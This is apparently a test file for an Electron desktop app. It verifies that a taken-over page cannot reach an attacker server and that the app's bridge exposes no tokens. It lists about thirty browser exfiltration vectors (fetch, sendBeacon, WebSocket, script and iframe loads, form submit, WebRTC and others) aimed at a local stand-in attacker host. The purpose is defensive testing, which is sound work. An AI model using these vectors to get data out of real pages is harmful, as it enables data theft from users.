import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { waitUntil } from '../../scripts/processes.mjs';
import { expect, onTestFinished, test } from 'vitest';
import { startDesk } from './support/desk';

/** Ways out of a page that somebody took over. Each gets the attacker's address; none may reach it. */
const VECTORS: readonly (readonly [name: string, code: string])[] = [
  ['fetch', 'fetch(URL_)'],
  ['fetch with no-cors', 'fetch(URL_, { mode: "no-cors", method: "POST", body: "x" })'],
  ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", URL_); x.send()'],
  ['sendBeacon', 'navigator.sendBeacon(URL_, "x")'],
  ['WebSocket', 'new WebSocket(URL_.replace("http", "ws"))'],
  ['EventSource', 'new EventSource(URL_)'],
  ['image', 'new Image().src = URL_'],
  [
    'style sheet',
    'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = URL_; document.head.append(l)',
  ],
  [
    'prefetch',
    'const l = document.createElement("link"); l.rel = "prefetch"; l.href = URL_; document.head.append(l)',
  ],
  [
    'preconnect',
    'const l = document.createElement("link"); l.rel = "preconnect"; l.href = URL_; document.head.append(l)',
  ],
  [
    'dns-prefetch',
    'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = URL_; document.head.append(l)',
  ],
  ['script', 'const s = document.createElement("script"); s.src = URL_; document.head.append(s)'],
  ['module import', 'import(URL_)'],
  ['iframe', 'const f = document.createElement("iframe"); f.src = URL_; document.body.append(f)'],
  ['object', 'const o = document.createElement("object"); o.data = URL_; document.body.append(o)'],
  ['embed', 'const o = document.createElement("embed"); o.src = URL_; document.body.append(o)'],
  ['audio', 'new Audio(URL_).play()'],
  ['video', 'const v = document.createElement("video"); v.src = URL_; document.body.append(v)'],
  ['font', 'new FontFace("x", "url(" + URL_ + ")").load()'],
  ['css background', 'document.body.style.background = "url(" + URL_ + ")"'],
  ['form', 'const f = document.createElement("form"); f.action = URL_; document.body.append(f); f.submit()'],
  ['location', 'location.href = URL_'],
  ['location.replace', 'location.replace(URL_)'],
  ['window.open', 'window.open(URL_)'],
  [
    'link click',
    'const a = document.createElement("a"); a.href = URL_; a.target = "_blank"; document.body.append(a); a.click()',
  ],
  [
    'ping',
    'const a = document.createElement("a"); a.href = "#"; a.ping = URL_; document.body.append(a); a.click()',
  ],
  ['worker', 'new Worker(URL_)'],
  ['service worker', 'navigator.serviceWorker.register(URL_)'],
  [
    'WebRTC',
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + HOST_ }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))',
  ],
  ['WebTransport', 'new WebTransport(URL_.replace("http:", "https:"))'],
  [
    'meta refresh',
    'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + URL_; document.head.append(m)',
  ],
];

test('a page that was taken over cannot get out', async () => {
  const hits: string[] = [];
  const attacker = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('gotcha');
  });
  attacker.on('connection', () => hits.push('connection'));
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
  onTestFinished(() => {
    attacker.closeAllConnections();
    attacker.close();
  });
  const host = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  const { launch, said } = await startDesk();
  const app = await launch({ hostile: true });
  await said(app, /first sync done/);
  const page = await app.app.firstWindow();
  await page.waitForLoadState('domcontentloaded');
  const before = page.url();
  // Run by main, past the page's own policy for scripts, as an attacker inside would run.
  const outcome = await app.app.evaluate(
    async ({ BrowserWindow }, { vectors, host: HOST }) => {
      const { webContents } = BrowserWindow.getAllWindows()[0]!;
      const left: string[] = [];
      for (const [name, code] of vectors) {
        const script = `(async () => { const URL_ = "http://${HOST}/" + ${JSON.stringify(name)}; const HOST_ = "${HOST}"; try { ${code} } catch {} })(); 0`;
        await webContents.executeJavaScript(script, true).catch(() => left.push(name));
      }
      return { left, windows: BrowserWindow.getAllWindows().length, url: webContents.getURL() };
    },
    { vectors: VECTORS, host },
  );
  // The desktop's answer to a real request, to know that one would have been seen.
  await fetch(`http://${host}/control`);
  expect(hits.filter((hit) => hit !== 'connection')).toEqual(['/control']);
  expect(hits.filter((hit) => hit === 'connection')).toHaveLength(1);
  await waitUntil(() => app.refused().length > 5, 10_000, 'the policy’s own words on the console');
  expect(outcome.windows).toBe(1);
  expect(outcome.url.split('#')[0]).toBe(before);
});

test('no command gives a token, and the bridge is two functions', async () => {
  const { launch, said, inbox, tenant } = await startDesk();
  const app = await launch();
  await said(app, /first sync done/);
  const page = await app.app.firstWindow();
  const seen = await page.evaluate(async () => {
    const bridge = window.tocsin;
    const answers = [
      await bridge.call('state', {}),
      await bridge.call('preferences', {}),
      await bridge.call('unreadable', {}),
    ];
    return {
      keys: Object.keys(bridge).toSorted(),
      text: JSON.stringify(answers),
      node: typeof (globalThis as { require?: unknown }).require,
    };
  });
  expect(seen.keys).toEqual(['call', 'onPush']);
  expect(seen.node).toBe('undefined');
  expect(seen.text).not.toContain(inbox.token);
  expect(seen.text).not.toContain(tenant.token);
});
